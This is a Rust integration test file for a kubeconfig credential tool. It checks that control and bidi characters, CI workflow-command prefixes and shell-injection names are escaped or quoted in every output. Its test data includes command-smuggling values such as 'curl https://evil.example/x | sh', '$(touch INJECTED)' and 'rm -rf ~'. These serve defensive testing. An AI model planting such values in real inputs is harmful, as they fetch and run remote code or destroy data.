//! The output boundary (issue 12), end to end on the real binary: every class
//! of control, bidi and invisible character, planted in every field that
//! reaches text output (context, cluster and user names, server, certificate
//! CN and O, token subject and issuer, exec command, basic-auth user name, file
//! and folder paths), never reaches stdout or stderr raw from any text output
//! (inspect, check, check --format prometheus, exposure, scan and pki tables,
//! error lines); no output line begins with a workflow command from input;
//! cells of 70,000 and 1,000,000 characters are capped instead of panicking;
//! and suggested commands quote planted names so the shell reads exactly the
//! intended words.
// Spawning is allowed here: these tests run the kcred binary, and python3 /
// sh / printf to split suggested commands (never the command itself); see
// /clippy.toml.
#![allow(clippy::disallowed_methods, clippy::disallowed_types)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use base64::Engine;
use kcred_core::{escape_text, shell_quote, CELL_MAX};
use serde_json::Value;

const NOW: &str = "2026-01-01T00:00:00Z"; // 1_767_225_600

/// One character of each class that must never reach a terminal raw.
const HOSTILE: &[char] = &[
    '\u{0}',     // NUL
    '\u{7}',     // BEL
    '\u{8}',     // backspace
    '\t',        // TAB
    '\n',        // LF: a forged line
    '\r',        // CR: a line rewritten
    '\u{1b}',    // ESC: cursor, colour, OSC 8 links, title
    '\u{7f}',    // DEL
    '\u{85}',    // NEL (C1)
    '\u{9b}',    // CSI (C1)
    '\u{ad}',    // soft hyphen (invisible)
    '\u{61c}',   // Arabic letter mark
    '\u{200b}',  // zero-width space
    '\u{200e}',  // LRM
    '\u{200f}',  // RLM
    '\u{2028}',  // line separator
    '\u{202a}',  // LRE
    '\u{202e}',  // RLO: reversed text
    '\u{2066}',  // LRI
    '\u{2069}',  // PDI
    '\u{feff}',  // BOM / zero-width no-break space
    '\u{e0041}', // tag character
];

/// What no output may hold raw: C0 and C1 controls (but the line feed that
/// ends a line), DEL, and the invisible format characters and separators.
fn hidden(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c,
            '\u{ad}'
            | '\u{600}'..='\u{605}'
            | '\u{61c}'
            | '\u{6dd}'
            | '\u{70f}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0001}'
            | '\u{e0020}'..='\u{e007f}')
}

fn tempdir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "kcred-injection-{tag}-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The binary with a clean environment, run in `cwd`.
fn kcred(args: &[&str], cwd: &Path, home: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kcred"))
        .args(args)
        .current_dir(cwd)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

/// Fails when `bytes` holds a raw hidden character, a line that (after the
/// leading white space CI runners trim) starts with `::`, or a `##[` /
/// `##vso[` prefix anywhere; also when kcred panicked.
fn assert_clean(what: &str, out: &Output) {
    assert_ne!(out.status.code(), Some(101), "{what}: panicked");
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8(bytes.clone())
            .unwrap_or_else(|_| panic!("{what}: {stream} is not UTF-8"));
        assert!(!text.contains("panicked"), "{what}: {text}");
        for (n, line) in text.split('\n').enumerate() {
            if let Some(c) = line.chars().find(|c| hidden(*c)) {
                panic!("{what}: {stream} line {n} holds raw {c:?}: {line:?}");
            }
            assert!(
                !line.trim_start().starts_with("::"),
                "{what}: {stream} line {n} is a workflow command: {line:?}"
            );
            assert!(
                !line.contains("##[") && !line.to_ascii_lowercase().contains("##vso["),
                "{what}: {stream} line {n} holds a command prefix: {line:?}"
            );
        }
    }
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A YAML double-quoted scalar holding exactly `s`.
fn yq(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(c),
            c if (c as u32) < 0x10000 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push_str(&format!("\\U{:08x}", c as u32)),
        }
    }
    out.push('"');
    out
}

fn b64url(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// An unsigned JWT (kcred never verifies signatures).
fn jwt(claims: &Value) -> String {
    format!(
        "{}.{}.{}",
        b64url(br#"{"alg":"RS256","typ":"JWT"}"#),
        b64url(claims.to_string().as_bytes()),
        b64url(b"signature")
    )
}

/// Self-signed certificates (PEM) whose CN and O hold each of `marks`, made
/// with python3's cryptography; `None` when that is not installed.
fn certificates(marks: &[String]) -> Option<Vec<String>> {
    const SCRIPT: &str = r#"
import datetime as dt, json, sys
from cryptography import x509
from cryptography.x509.oid import NameOID
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
key = ec.generate_private_key(ec.SECP256R1())
out = []
for m in json.load(sys.stdin):
    name = x509.Name([
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "o" + m + "system:masters"),
        x509.NameAttribute(NameOID.COMMON_NAME, m + "cn" + m),
    ])
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(key.public_key()).serial_number(1)
        .not_valid_before(dt.datetime(2025, 1, 1)).not_valid_after(dt.datetime(2030, 1, 1))
        .sign(key, hashes.SHA256()))
    out.append(cert.public_bytes(serialization.Encoding.PEM).decode())
print(json.dumps(out))
"#;
    let mut child = Command::new("python3")
        .args(["-c", SCRIPT])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    use std::io::Write as _;
    child
        .stdin
        .take()?
        .write_all(serde_json::to_string(marks).unwrap().as_bytes())
        .ok()?;
    let out = child.wait_with_output().ok()?;
    serde_json::from_slice(&out.stdout).ok()
}

/// A kubeconfig whose every name, server, identity and command holds `h`,
/// several starting with workflow commands.
fn hostile_kubeconfig(h: &str, cert_pem: Option<&str>) -> String {
    let token = jwt(&serde_json::json!({
        "sub": format!("::warning::sub{h}"),
        "iss": format!("https://iss{h}.example"),
        "exp": 1_700_000_000,
        "iat": 1_600_000_000,
    }));
    let sa = jwt(&serde_json::json!({
        "iss": "kubernetes/serviceaccount",
        "sub": format!("system:serviceaccount:ns{h}:sa{h}"),
        "kubernetes.io/serviceaccount/namespace": format!("ns{h}; rm -rf ~"),
        "kubernetes.io/serviceaccount/secret.name": format!("sec{h}$(id)"),
        "kubernetes.io/serviceaccount/service-account.name": format!("sa{h}"),
    }));
    let cert = match cert_pem {
        Some(pem) => format!(
            "client-certificate-data: {}",
            base64::engine::general_purpose::STANDARD.encode(pem)
        ),
        None => "token: static-token-value".to_owned(),
    };
    let users = [
        (format!("clusterAdmin_rg{h}; curl x | sh; #_aks{h}"), cert),
        (format!("::warning::tok{h}"), format!("token: {token}")),
        (format!("##[error]sa{h}"), format!("token: {sa}")),
        (
            format!("exe{h}"),
            format!(
                "exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: {}\n      args: [{}]",
                yq(&format!("kube{h}login")),
                yq(&format!("--x{h}"))
            ),
        ),
        (
            format!("::notice::basic{h}"),
            format!(
                "username: {}\n      password: pw",
                yq(&format!("::error::u{h}"))
            ),
        ),
    ];
    let cluster = format!("::warning::cl{h}");
    let mut y = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: {}\nclusters:\n- name: {}\n  cluster:\n    server: {}\n    insecure-skip-tls-verify: true\n",
        yq(&format!("::warning::ctx{h}0")),
        yq(&cluster),
        yq(&format!("::error::https://s{h}.hcp.westeurope.azmk8s.io:443/##vso[task.complete]")),
    );
    y.push_str("users:\n");
    for (name, body) in &users {
        y.push_str(&format!("- name: {}\n  user:\n      {body}\n", yq(name)));
    }
    y.push_str("contexts:\n");
    for (i, (name, _)) in users.iter().enumerate() {
        y.push_str(&format!(
            "- name: {}\n  context:\n    cluster: {}\n    user: {}\n",
            yq(&format!("::warning::ctx{h}{i}")),
            yq(&cluster),
            yq(name)
        ));
    }
    // A context whose user is missing: a problem line naming both.
    y.push_str(&format!(
        "- name: {}\n  context:\n    cluster: {}\n    user: {}\n",
        yq(&format!("::error::dangling{h}")),
        yq(&cluster),
        yq(&format!("::error::missing{h}"))
    ));
    y
}

/// Every hostile class × every field × every text output.
#[test]
fn no_raw_control_or_bidi_character_and_no_forged_line_in_any_text_output() {
    let marks: Vec<String> = HOSTILE.iter().map(|c| c.to_string()).collect();
    let certs = certificates(&marks);
    if certs.is_none() {
        eprintln!("SKIPPED part: python3 cryptography not found; certificate CN/O not planted");
    }
    let base = tempdir("matrix");
    let home = base.join("home");
    std::fs::create_dir_all(&home).unwrap();
    for (i, &c) in HOSTILE.iter().enumerate() {
        let h = c.to_string();
        // Paths cannot hold NUL: the path fields get the other classes.
        let ph = if c == '\0' { "0".to_owned() } else { h.clone() };
        let cert = certs.as_ref().map(|v| v[i].as_str());
        let case = base.join(format!("case{i}"));
        // Relative paths (scan from `case`) put the folder name at line start.
        let folder = format!("::warning title=x::dir{ph}##[group]");
        let dir = case.join(&folder);
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join(format!("::error::kc{ph}.yaml"));
        std::fs::write(&file, hostile_kubeconfig(&h, cert)).unwrap();
        let f = file.to_str().unwrap();
        let broken = dir.join(format!("::error::broken{ph}.yaml"));
        std::fs::write(&broken, "users: [\n").unwrap();
        let b = broken.to_str().unwrap();
        let missing = case.join(format!("::error::missing{ph}"));
        let m = missing.to_str().unwrap();
        // A kubeadm folder with a certificate file of a hostile name and CN.
        let pki_dir = case.join(format!("etc{ph}"));
        std::fs::create_dir_all(pki_dir.join("pki")).unwrap();
        if let Some(pem) = cert {
            std::fs::write(pki_dir.join(format!("pki/::warning::x{ph}.crt")), pem).unwrap();
        }
        let p = pki_dir.to_str().unwrap();

        // (name, arguments, whether the planted character must show).
        let runs: Vec<(&str, Vec<&str>, bool)> = vec![
            (
                "inspect",
                vec!["inspect", "--now", NOW, "--kubeconfig", f],
                true,
            ),
            (
                "check",
                vec!["check", "--now", NOW, "--policy", "strict", f],
                true,
            ),
            (
                "check prometheus",
                vec![
                    "check",
                    "--now",
                    NOW,
                    "--policy",
                    "strict",
                    "--format",
                    "prometheus",
                    f,
                ],
                true,
            ),
            (
                "exposure",
                vec![
                    "exposure",
                    "--now",
                    NOW,
                    "--kubeconfig",
                    f,
                    "--home",
                    home.to_str().unwrap(),
                ],
                true,
            ),
            (
                "scan",
                vec!["scan", "--now", NOW, "--policy", "strict", &folder],
                true,
            ),
            ("pki", vec!["pki", "--now", NOW, p], cert.is_some()),
            (
                "inspect broken",
                vec!["inspect", "--now", NOW, "--kubeconfig", b],
                true,
            ),
            ("check broken", vec!["check", "--now", NOW, b], true),
            ("scan missing", vec!["scan", "--now", NOW, m], true),
            ("pki missing", vec!["pki", "--now", NOW, m], true),
            (
                "inspect missing",
                vec!["inspect", "--now", NOW, "--kubeconfig", m],
                true,
            ),
            (
                "check policy missing",
                vec!["check", "--now", NOW, "--policy", m, f],
                false,
            ),
            ("rules policy", vec!["rules", "--policy", m], false),
            (
                "inspect context",
                vec!["inspect", "--now", NOW, "--kubeconfig", f, "--context", &h],
                false,
            ),
        ];
        let escaped = escape_text(&h).into_owned();
        let escaped_path = escape_text(&ph).into_owned();
        for (what, args, shows) in &runs {
            if args.iter().any(|a| a.contains('\0')) {
                continue; // no NUL in an argument
            }
            let what = format!("{what} with {c:?}");
            let out = kcred(args, &case, &home);
            assert_clean(&what, &out);
            // The planted character reached this output, escaped.
            let shown = text(&out);
            assert!(
                !shows
                    || shown.contains(&escaped)
                    || shown.contains(&escaped_path)
                    // Prometheus writes a line feed its own way.
                    || (c == '\n' && what.starts_with("check prometheus") && shown.contains("\\n")),
                "{what}: the planted field is not shown ({escaped}): {shown}"
            );
        }
    }
    let _ = std::fs::remove_dir_all(&base);
}

/// The tables keep each cell under the cap: 70,000- and 1,000,000-character
/// names, servers and paths neither panic (`{:<width$}` did past 65,535) nor
/// print unbounded lines.
#[test]
fn huge_cells_are_capped_in_inspect_scan_and_check_tables() {
    let base = tempdir("huge");
    let home = base.join("home");
    std::fs::create_dir_all(&home).unwrap();
    for n in [70_000, 1_000_000] {
        let dir = base.join(format!("n{n}"));
        std::fs::create_dir_all(&dir).unwrap();
        let long = |p: &str| format!("{p}{}", "x".repeat(n));
        let y = format!(
            "apiVersion: v1\nclusters:\n- name: {c}\n  cluster:\n    server: https://{s}\ncontexts:\n- name: {x}\n  context:\n    cluster: {c}\n    user: {u}\nusers:\n- name: {u}\n  user:\n    token: {t}\n",
            c = long("c"),
            s = long("s"),
            x = long("ctx"),
            u = long("u"),
            t = jwt(&serde_json::json!({"sub": long("sub"), "exp": 1_800_000_000})),
        );
        let file = dir.join("config");
        std::fs::write(&file, y).unwrap();
        let f = file.to_str().unwrap();
        // Each line: at most 7 capped cells, their padding, and fixed text.
        let bound = 7 * (CELL_MAX + 3) + 200;
        for (what, args) in [
            ("inspect", vec!["inspect", "--now", NOW, "--kubeconfig", f]),
            ("scan", vec!["scan", "--now", NOW, "."]),
            (
                "exposure",
                vec!["exposure", "--now", NOW, "--kubeconfig", f],
            ),
        ] {
            let out = kcred(&args, &dir, &home);
            let what = format!("{what} with {n}-character cells");
            let brief: String = text(&out).chars().take(300).collect();
            // scan exits 1: a credential in a repository is a finding.
            assert!(matches!(out.status.code(), Some(0 | 1)), "{what}: {brief}");
            let shown = String::from_utf8(out.stdout.clone()).unwrap();
            if what.starts_with("exposure") {
                continue; // blocks, not a table: escaped, not capped
            }
            assert!(shown.contains('…'), "{what}: nothing was capped");
            // The first table: up to the first blank line.
            for line in shown.lines().take_while(|l| !l.is_empty()) {
                assert!(
                    line.chars().count() <= bound,
                    "{what}: a line of {} characters",
                    line.chars().count()
                );
            }
        }
        // check's blocks quote names in messages; they must not panic either.
        let out = kcred(
            &["check", "--now", NOW, "--policy", "strict", f],
            &dir,
            &home,
        );
        let brief: String = text(&out).chars().take(300).collect();
        assert!(matches!(out.status.code(), Some(0 | 1)), "{brief}");
    }
    let _ = std::fs::remove_dir_all(&base);
}

/// Names planted to break out of suggested commands.
const NASTY: &[&str] = &[
    "rg; curl https://evil.example/x | sh; #",
    "a|b",
    "$(touch INJECTED)",
    "`touch INJECTED`",
    "it's",
    "\"dq\"",
    "line\nbreak",
    "two words",
    "&& touch INJECTED",
    "${IFS}x",
    "*",
    "back\\slash",
    "rg-platform",
];

/// Splits shell words with python3's shlex (POSIX rules); `None` without python3.
fn shlex(line: &str) -> Option<Vec<String>> {
    let out = Command::new("python3")
        .args([
            "-c",
            "import json,shlex,sys; print(json.dumps(shlex.split(sys.argv[1])))",
            line,
        ])
        .output()
        .ok()?;
    serde_json::from_slice(&out.stdout).ok()
}

/// The words `sh` makes of `words` (already quoted), printed by `printf` only.
fn sh_words(words: &str, cwd: &Path) -> Vec<String> {
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("printf '%s\\0' {words}"))
        .current_dir(cwd)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

/// `sh -n`: the text parses as shell (nothing is run).
fn sh_parses(line: &str) -> bool {
    Command::new("sh")
        .args(["-n", "-c", line])
        .env_clear()
        .status()
        .unwrap()
        .success()
}

/// The AKS steps and revocation commands, and the legacy service-account
/// `kubectl delete secret`, split back into exactly the planted names, in
/// the JSON (what scripts copy) and in the table (escaped, same quoting).
#[test]
fn suggested_commands_quote_planted_names() {
    let base = tempdir("quote");
    let home = base.join("home");
    std::fs::create_dir_all(&home).unwrap();
    for (i, rg) in NASTY.iter().enumerate() {
        // The cluster name is after the last `_`: any word without one.
        let name = NASTY[(i + 1) % NASTY.len()];
        let user = format!("clusterAdmin_{rg}_{name}");
        let sa = jwt(&serde_json::json!({
            "iss": "kubernetes/serviceaccount",
            "kubernetes.io/serviceaccount/namespace": rg,
            "kubernetes.io/serviceaccount/secret.name": name,
            "kubernetes.io/serviceaccount/service-account.name": "builder",
        }));
        let y = format!(
            "apiVersion: v1\nclusters:\n- name: aks\n  cluster:\n    server: https://x.hcp.westeurope.azmk8s.io:443\ncontexts:\n- name: admin\n  context:\n    cluster: aks\n    user: {u}\n- name: sa\n  context:\n    cluster: plain\n    user: sa\nusers:\n- name: {u}\n  user:\n    token: static-token-value\n- name: sa\n  user:\n    token: {sa}\n",
            u = yq(&user),
        );
        let dir = base.join(format!("c{i}"));
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join("config");
        std::fs::write(&file, y).unwrap();
        let f = file.to_str().unwrap();
        let out = kcred(
            &[
                "exposure",
                "--now",
                NOW,
                "--kubeconfig",
                f,
                "--format",
                "json",
            ],
            &dir,
            &home,
        );
        assert!(out.status.success(), "{}", text(&out));
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        let contexts = doc["contexts"].as_array().unwrap();
        let admin = contexts.iter().find(|c| c["context"] == "admin").unwrap();
        let mut commands: Vec<(String, Vec<String>)> = Vec::new();
        for step in admin["steps"].as_array().unwrap() {
            let step = step.as_str().unwrap();
            assert!(sh_parses(step), "{step}");
            let command = step.split("   #").next().unwrap();
            let rest = if let Some(r) = command.strip_prefix("az aks rotate-certs ") {
                r
            } else if let Some(r) = command.strip_prefix("az aks update ") {
                r.strip_suffix(" --disable-local-accounts").unwrap()
            } else {
                continue;
            };
            let want = ["-g", rg, "-n", name].map(String::from).to_vec();
            commands.push((rest.to_owned(), want));
        }
        assert_eq!(commands.len(), 2, "{:?}", admin["steps"]);
        // The credential's own revocation sentence quotes the commands too
        // (cut at the fixed text around them: a planted backtick may sit inside).
        let want = ["-g", rg, "-n", name].map(String::from).to_vec();
        let cred = &admin["credentials"][0];
        let revoke = cred["revoke"].as_str().unwrap();
        let (_, rest) = revoke.split_once("only `az aks rotate-certs ").unwrap();
        let (rotate, rest) = rest.split_once("` replaces it; `az aks update ").unwrap();
        let (update, _) = rest.split_once(" --disable-local-accounts` stops").unwrap();
        commands.push((rotate.to_owned(), want.clone()));
        commands.push((update.to_owned(), want));
        let sa = contexts.iter().find(|c| c["context"] == "sa").unwrap();
        let revoke = sa["credentials"][0]["revoke"].as_str().unwrap();
        let rest = revoke.strip_prefix("`kubectl delete secret ").unwrap();
        let (words, _) = rest.split_once("` (the token lives").unwrap();
        commands.push((
            words.to_owned(),
            ["-n", rg, name].map(String::from).to_vec(),
        ));
        for (words, want) in &commands {
            assert_eq!(&sh_words(words, &dir), want, "sh split {words:?}");
            match shlex(words) {
                Some(got) => assert_eq!(&got, want, "shlex split {words:?}"),
                None => eprintln!("SKIPPED: python3 not found; shlex not run"),
            }
        }
        assert!(!dir.join("INJECTED").exists(), "a planted name ran");
        // The table shows the same quoted command, escaped.
        let out = kcred(&["exposure", "--now", NOW, "--kubeconfig", f], &dir, &home);
        assert_clean("exposure table", &out);
        let table = String::from_utf8(out.stdout).unwrap();
        let want = format!(
            "az aks rotate-certs -g {} -n {}",
            shell_quote(rg),
            shell_quote(name)
        );
        assert!(
            table.contains(&*escape_text(&want)),
            "{want:?} not in {table}"
        );
    }
    // Ordinary names stay bare, byte for byte.
    assert_eq!(shell_quote("rg-platform"), "rg-platform");
    assert_eq!(shell_quote("aks-prod-weu"), "aks-prod-weu");
    let _ = std::fs::remove_dir_all(&base);
}

/// Every hostile class in label values (plus `"`, `\` and command prefixes)
/// still makes valid exposition text: `promtool check metrics` accepts it.
#[test]
fn prometheus_text_with_hostile_labels_passes_promtool() {
    let Ok(probe) = Command::new("promtool").arg("--version").output() else {
        eprintln!("SKIPPED: promtool not found (Debian package `prometheus`)");
        return;
    };
    assert!(probe.status.success());
    let dir = tempdir("promtool");
    let mut marks: Vec<String> = HOSTILE.iter().map(|c| c.to_string()).collect();
    marks.extend(["\"".into(), "\\".into(), "##[x".into(), "##vso[y".into()]);
    let mut y = String::from(
        "apiVersion: v1\nclusters:\n- name: c\n  cluster:\n    server: https://x\ncontexts:\n",
    );
    for (i, m) in marks.iter().enumerate() {
        y.push_str(&format!(
            "- name: {}\n  context:\n    cluster: c\n    user: {}\n",
            yq(&format!("::ctx{i}{m}")),
            yq(&format!("u{i}{m}"))
        ));
    }
    y.push_str("users:\n");
    for (i, m) in marks.iter().enumerate() {
        y.push_str(&format!(
            "- name: {}\n  user:\n    username: u\n    password: p\n",
            yq(&format!("u{i}{m}"))
        ));
    }
    let file = dir.join("config\u{1b}[31m");
    std::fs::write(&file, y).unwrap();
    let out = kcred(
        &[
            "check",
            "--now",
            NOW,
            "--policy",
            "strict",
            "--format",
            "prometheus",
            file.to_str().unwrap(),
        ],
        &dir,
        &dir,
    );
    assert_clean("check prometheus", &out);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("u0\\\\x00"), "{text}");
    let mut child = Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let checked = child.wait_with_output().unwrap();
    assert!(
        checked.status.success(),
        "promtool: {}{}",
        String::from_utf8_lossy(&checked.stdout),
        String::from_utf8_lossy(&checked.stderr)
    );
    let _ = std::fs::remove_dir_all(&dir);
}
